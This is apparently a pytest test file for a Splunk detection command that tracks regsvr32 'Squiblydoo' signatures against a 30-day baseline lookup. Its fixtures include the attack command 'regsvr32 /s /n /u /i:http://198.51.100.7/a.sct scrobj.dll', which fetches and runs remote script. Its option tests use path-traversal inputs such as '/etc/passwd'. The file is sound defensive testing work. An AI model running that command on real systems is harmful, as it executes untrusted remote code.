"""The 30-day baseline through the real protocol: | regsvr32detect baseline=<lookup> marks rows new
or known, | regsvr32detect mode=baseline updates the lookup (what the scheduled search's outputlookup
then stores). One signature goes new -> known -> new again after the retention period."""
import csv

import pytest

import chunked
from events import sysmon1
from regsvr32_detector.baseline import COLUMNS, DAY, DEFAULT_DAYS

T0 = 1700000000.0           # day 0 of the story, 2023-11-14
SQUIBLY = sysmon1("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll")
OTHER_USER_SQUIBLY = sysmon1("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll",
                             user="CORP\\bob", computer="WS02")
INSTALL = sysmon1("regsvr32 /s \"C:\\Program Files\\Vendor\\v2.1\\x.dll\"")
NOTEPAD = sysmon1("notepad.exe", image="C:\\Windows\\System32\\notepad.exe")


def at(record, day):
    return dict(record, _time="%.3f" % (T0 + day * DAY))


class Story(object):
    """An app copy whose baseline lookup the scheduled update keeps, day by day."""

    def __init__(self, app):
        self.app = app
        self.lookup = app / "lookups" / "regsvr32_baseline.csv"

    def script(self):
        return str(self.app / "bin" / "regsvr32detect.py")

    def mark(self, *events, days=None):
        args = ["baseline=regsvr32_baseline"] + (["baseline_days=%d" % days] if days else [])
        result = chunked.run(args, [list(events)], script=self.script())
        assert result.returncode == 0 and not result.texts("ERROR"), result.messages
        return result.rows

    def update(self, day, *events):
        """The daily update at the end of DAY over that day's events: annotate, stats, mode=baseline,
        then store the rows as outputlookup does."""
        annotated = chunked.run([], [list(events)], script=self.script()).rows
        sightings = {}
        for row in annotated:       # stats min(_time) max(_time) count by regsvr32_signature
            if row["regsvr32_signature"]:
                first, last, count = sightings.get(row["regsvr32_signature"], (1e18, 0.0, 0))
                when = float(row["_time"])
                sightings[row["regsvr32_signature"]] = (min(first, when), max(last, when), count + 1)
        rows = [{"regsvr32_signature": s, "first_seen": repr(f), "last_seen": repr(l), "count": str(c)}
                for s, (f, l, c) in sorted(sightings.items())]
        result = chunked.run(["mode=baseline", "baseline=regsvr32_baseline"], [rows[:1], rows[1:]],
                             script=self.script(),
                             searchinfo={"latest_time": "%.3f" % (T0 + (day + 1) * DAY)})
        assert result.returncode == 0 and result.messages == [], result.messages
        assert result.getinfo["type"] == "stateful"      # once, on the search head
        with open(str(self.lookup), "w", newline="", encoding="utf-8") as f:
            writer = csv.DictWriter(f, fieldnames=COLUMNS)
            writer.writeheader()
            writer.writerows(result.rows)
        return {r["regsvr32_signature"]: r for r in result.rows}


@pytest.fixture
def story(app_copy):
    return Story(app_copy)


def new(rows):
    return [r["regsvr32_new"] for r in rows]


def test_new_then_known_then_new_again_after_the_retention_period(story):
    # Day 0: no baseline yet. Everything regsvr32 is new; other rows get empty marks.
    rows = story.mark(at(SQUIBLY, 0), at(NOTEPAD, 0))
    assert new(rows) == ["true", ""] and rows[0]["regsvr32_first_seen"] == ""
    entries = story.update(0, at(SQUIBLY, 0), at(NOTEPAD, 0))
    assert list(entries) == [rows[0]["regsvr32_signature"]]
    assert entries[rows[0]["regsvr32_signature"]]["count"] == "1"

    # Day 5: the same thing on another host by another user is known; an installer is new.
    rows = story.mark(at(OTHER_USER_SQUIBLY, 5), at(INSTALL, 5))
    assert new(rows) == ["false", "true"]
    assert float(rows[0]["regsvr32_first_seen"]) == T0
    entries = story.update(5, at(OTHER_USER_SQUIBLY, 5), at(INSTALL, 5))
    squibly = entries[rows[0]["regsvr32_signature"]]
    assert (float(squibly["first_seen"]), float(squibly["last_seen"]), squibly["count"]) == \
        (T0, T0 + 5 * DAY, "2")

    # Day 20: not seen since day 5, still inside the window, and kept by an update without it.
    assert new(story.mark(at(SQUIBLY, 20))) == ["false"]
    assert rows[0]["regsvr32_signature"] in story.update(20, at(INSTALL, 20))

    # Day 36: last seen 31 days ago, so new again (first_seen still says when it was first met),
    # and the next update drops it.
    (row,) = story.mark(at(SQUIBLY, 36))
    assert row["regsvr32_new"] == "true" and float(row["regsvr32_first_seen"]) == T0
    entries = story.update(36, at(INSTALL, 36))
    assert rows[0]["regsvr32_signature"] not in entries and rows[1]["regsvr32_signature"] in entries
    (row,) = story.mark(at(SQUIBLY, 37))
    assert row["regsvr32_new"] == "true" and row["regsvr32_first_seen"] == ""


def test_an_event_at_or_before_its_first_sighting_is_new(story):
    # Re-running a past window after the update has folded it in must still say "new".
    story.update(3, at(SQUIBLY, 3))
    assert new(story.mark(at(SQUIBLY, 3), at(SQUIBLY, 2), at(SQUIBLY, 4))) == ["true", "true", "false"]


@pytest.mark.parametrize(("days", "expected"), [(DEFAULT_DAYS, "true"), (60, "false")])
def test_baseline_days_sets_the_window(story, days, expected):
    story.update(0, at(SQUIBLY, 0))
    assert new(story.mark(at(SQUIBLY, 45), days=None if days == DEFAULT_DAYS else days)) == [expected]


def test_update_takes_plain_events_and_merges_repeats(story):
    annotated = chunked.run([], [[at(SQUIBLY, 0), at(OTHER_USER_SQUIBLY, 1), at(NOTEPAD, 1)]],
                            script=story.script()).rows
    result = chunked.run(["mode=baseline", "baseline=regsvr32_baseline"], [annotated[:1], annotated[1:]],
                         script=story.script(), searchinfo={"latest_time": "%.3f" % (T0 + 2 * DAY)})
    (row,) = result.rows
    assert (float(row["first_seen"]), float(row["last_seen"]), row["count"]) == (T0, T0 + DAY, "2")
    assert sorted(row) == sorted(COLUMNS)


def test_every_row_gets_the_baseline_fields_and_rows_keep_their_order(story):
    story.update(0, at(SQUIBLY, 0))
    events = [at(NOTEPAD, 1), at(SQUIBLY, 1), {"sample": "no _time"}, at(INSTALL, 1)]
    rows = story.mark(*events)
    assert [r.get("_time") for r in rows] == [e.get("_time", "") for e in events]
    assert all("regsvr32_first_seen" in r and "regsvr32_new" in r for r in rows)
    assert new(rows) == ["", "false", "", "true"]


def test_bad_baseline_rows_warn_and_the_rest_apply(story):
    story.lookup.write_text(",".join(COLUMNS) + "\nx,not-a-time,1,1\n" + "y,1,2,3\n", encoding="utf-8")
    result = chunked.run(["baseline=regsvr32_baseline"], [[SQUIBLY]], script=story.script())
    assert any("regsvr32_baseline.csv:2" in w for w in result.texts("WARN"))
    assert result.rows[0]["regsvr32_new"] == "true"


@pytest.mark.parametrize(("args", "says"), [
    (["baseline=../x"], "baseline must be one lookup name"),
    (["baseline=a,b"], "baseline must be one lookup name"),
    (["baseline=/etc/passwd"], "baseline must be one lookup name"),
    (["baseline_days=0"], "baseline_days must be an integer from 1 to 3650"),
    (["mode=baseline"], "mode=baseline needs baseline=<lookup>"),
    (["mode=sideways"], "mode must be annotate, filter or baseline"),
])
def test_bad_baseline_options_stop_the_search(args, says):
    result = chunked.run(args, [[SQUIBLY]])
    assert any(says in e for e in result.texts("ERROR")), result.messages
    assert result.replies == [] and result.returncode != 0
